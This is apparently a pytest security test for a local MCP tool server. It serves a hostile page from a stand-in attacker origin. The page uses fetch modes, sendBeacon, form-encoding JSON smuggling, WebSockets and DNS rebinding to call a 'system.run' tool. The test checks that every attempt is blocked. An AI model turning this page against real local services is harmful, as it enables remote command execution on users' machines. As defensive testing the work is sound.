"""A page in a real Chromium, on another origin, tries to reach the tools. It even knows the token."""

import contextlib
import http.server
import json
import os
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.programs import need
from tests.running import process
from tests.web_client import rpc, send

from ..running import running_node

WAIT = 60.0

PAGE = """<!doctype html><title>attack</title><body><script>
const targets = TARGETS, token = TOKEN, report = [];
const touch = JSON.stringify({jsonrpc: "2.0", id: 1, method: "tools/call",
  params: {name: "system.run", arguments: {command: ["touch", CANARY]}}});
const note = (what, how) => report.push(`${what}: ${how}`);
async function attempt(what, make) {
  try { const answer = await make(); note(what, `${answer.type} ${answer.status} ${await answer.text()}`); }
  catch (error) { note(what, `failed ${error}`); }
}
function form(url, type, name, value) {
  const frame = document.createElement("iframe"); frame.name = "f" + Math.random(); document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {action: url, method: "POST", enctype: type, target: frame.name});
  const field = document.createElement("input"); field.name = name; field.value = value;
  form.append(field); document.body.append(form); form.submit();
}
async function main() {
  for (const url of targets) {
    const json = {"Content-Type": "application/json"}, auth = {"Authorization": `Bearer ${token}`};
    for (const mode of ["cors", "no-cors"]) {
      await attempt(`${mode} get`, () => fetch(url, {mode}));
      await attempt(`${mode} text`, () => fetch(url, {mode, method: "POST", body: touch}));
      await attempt(`${mode} blob`, () => fetch(url, {mode, method: "POST", body: new Blob([touch])}));
      await attempt(`${mode} json`, () => fetch(url, {mode, method: "POST", headers: json, body: touch}));
      await attempt(`${mode} quiet`, () => fetch(url, {mode, method: "POST", headers: json, body: touch,
        referrerPolicy: "no-referrer", credentials: "omit"}));
    }
    await attempt("preflight", () => fetch(url, {method: "POST", headers: {...json, ...auth}, body: touch}));
    await attempt("preflight put", () => fetch(url, {method: "PUT", headers: {...json, ...auth}, body: touch}));
    await attempt("authorised get", () => fetch(url, {headers: auth}));
    navigator.sendBeacon(url, touch);
    navigator.sendBeacon(url, new Blob([touch], {type: "text/plain"}));
    const name = touch.slice(0, -1) + ',"x":"', value = '"}';
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
      form(url, type, name, value);
    await new Promise(done => {
      const socket = new WebSocket(url.replace("http", "ws"), ["mcp"]);
      socket.onopen = () => { socket.send(touch); note("socket", "open"); done(); };
      socket.onerror = () => { note("socket", "failed"); done(); };
    });
    const tag = document.createElement("script"); tag.src = url; document.body.append(tag);
    const image = new Image(); image.src = url;
  }
  await new Promise(done => setTimeout(done, 1000));
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
}
main();
</script>"""


class Site:
    """The attacker's site, and a naive local server that shows which attempts really leave the browser."""

    def __init__(self) -> None:
        self.page = b""
        self.reported = threading.Event()
        self.report: list[str] = []
        self.arrived: list[str] = []

    @contextlib.contextmanager
    def serve(self, *, naive: bool) -> Iterator[int]:
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: object) -> None:
                return

            def do_GET(self) -> None:
                self._answer(site.page if not naive else b"hello")

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("content-length", 0)))
                if not naive:
                    site.report = json.loads(body)
                    site.reported.set()
                elif b"tools/call" in body:
                    site.arrived.append(self.headers.get("content-type", ""))
                self._answer(b"ok")

            def _answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield server.server_address[1]
        finally:
            server.shutdown()
            server.server_close()


@pytest.fixture
def temporary() -> Iterator[Path]:
    """A folder for the browser's temporary files with a short path: it makes a socket in it."""
    with tempfile.TemporaryDirectory() as folder:
        yield Path(folder)


@pytest.mark.parametrize("token_wanted", [True, False], ids=["with a token", "without a token"])
def test_no_page_reaches_a_tool(tmp_path: Path, temporary: Path, token_wanted: bool) -> None:
    chromium = need("chromium", package="chromium")
    state, canary, site = tmp_path / "state", tmp_path / "canary", Site()
    state.mkdir()
    (state / "exec-policy.json").write_text('{"defaultAction": "allow", "rules": []}')
    with (
        running_node(state, requireToken=token_wanted) as node,
        site.serve(naive=False) as page_port,
        site.serve(naive=True) as naive_port,
    ):
        port = urlsplit(node.address).port
        token = node.token if token_wanted else "none"
        targets = [
            f"http://127.0.0.1:{port}/",
            f"http://localhost:{port}/",
            f"http://rebound.test:{port}/",  # a name of the attacker's that has come to mean this machine
            f"http://127.0.0.1:{naive_port}/",
        ]
        page = PAGE.replace("TARGETS", json.dumps(targets)).replace("TOKEN", json.dumps(token))
        site.page = page.replace("CANARY", json.dumps(str(canary))).encode()
        words = (
            chromium,
            "--headless=new",
            "--no-sandbox",  # tests may run as root
            "--disable-gpu",
            "--no-first-run",
            f"--user-data-dir={tmp_path}/profile",
            "--host-resolver-rules=MAP *.test 127.0.0.1",
            # The browser's own guard of local networks is switched off: ours has to hold alone.
            "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessRespectPreflightResults",
            f"http://evil.test:{page_port}/",
        )
        with process(*words, env={**os.environ, "TMPDIR": str(temporary)}):
            assert site.reported.wait(WAIT)
        headers = node.bearer if token_wanted else {}
        uri = {"uri": "openclaw://node/activity"}
        activity = send(node.address, "POST", rpc("resources/read", uri), **headers).json["result"]["contents"][0][
            "text"
        ]
        allowed = {"name": "system.run", "arguments": {"command": ["touch", str(canary)]}}
        untouched = not canary.exists()
        send(node.address, "POST", rpc("tools/call", allowed), **headers)

    assert untouched
    assert json.loads(activity)["calls"] == []
    assert canary.exists()  # the very same call works for a program of this machine
    assert len(site.arrived) >= 5, site.report  # and these attempts do leave the browser
    assert not [line for line in site.report if "OpenClaw" in line or "socket: open" in line or "jsonrpc" in line]


def test_a_rebound_name_gets_no_page_from_the_node(tmp_path: Path) -> None:
    chromium = need("chromium", package="chromium")
    with running_node(tmp_path / "state", requireToken=False) as node:
        port = urlsplit(node.address).port
        words = (chromium, "--headless=new", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path}/profile")
        rules = "--host-resolver-rules=MAP *.test 127.0.0.1"
        output = subprocess.run(
            [*words, rules, "--dump-dom", f"http://rebound.test:{port}/"],
            capture_output=True,
            text=True,
            timeout=WAIT,
            check=False,
        ).stdout

    assert "OpenClaw MCP server" not in output
    assert "browser context not allowed" in output or "host not allowed" in output
